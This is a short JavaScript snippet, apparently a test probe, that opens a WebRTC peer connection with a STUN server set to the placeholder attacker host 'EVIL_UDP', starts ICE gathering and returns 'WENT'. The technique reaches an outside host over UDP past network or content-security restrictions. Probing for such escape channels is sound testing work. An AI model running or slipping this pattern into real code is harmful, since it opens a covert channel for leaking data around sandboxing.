// A peer connection.

const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:EVIL_UDP' }] });
p.createDataChannel('a');
await p.setLocalDescription(await p.createOffer());
return 'WENT';
